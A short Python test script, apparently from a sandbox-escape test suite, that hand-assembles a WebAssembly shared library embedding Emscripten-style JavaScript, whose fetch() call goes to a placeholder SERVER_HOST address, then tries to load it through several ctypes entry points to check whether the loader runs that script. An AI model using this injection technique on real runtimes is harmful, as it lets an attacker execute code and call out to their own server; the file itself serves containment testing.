# Tries to have the loader run JavaScript that a shared library brings, as libraries for Emscripten may.
# ends: contained, crashed
import ctypes
import time


def number(value):
    more, low = value >> 7, value & 127
    return bytes([low | 128]) + number(more) if more else bytes([low])


def text(string):
    return number(len(string)) + string


def section(kind, *items):
    content = number(len(items)) + b"".join(items)
    return bytes([kind]) + number(len(content)) + content


script = b"(void)<::>0; fetch('http://SERVER_HOST:SERVER_PORT/side-js', { mode: 'no-cors' })\0"
memory_info = b"\1" + text(number(len(script)) + b"\0\0\0")
dylink = text(b"dylink.0") + memory_info
module = b"\0asm\1\0\0\0" + b"\0" + number(len(dylink)) + dylink
module += section(
    2,
    text(b"env") + text(b"memory") + b"\2\0\0",
    text(b"env") + text(b"__memory_base") + b"\3\x7f\0",
)
module += section(6, b"\x7f\0\x41\0\x0b")
module += section(7, text(b"__em_js__attack") + b"\3\1")
module += section(11, b"\0\x23\0\x0b" + text(script))
with open("attack.so", "wb") as file:
    file.write(module)
for load in (ctypes.CDLL, ctypes.cdll.LoadLibrary, lambda path: __import__("_ctypes").dlopen(path, 2)):
    try:
        print("loaded", load("./attack.so"))
    except OSError as error:
        print(type(error).__name__)
time.sleep(0.2)
print("contained")
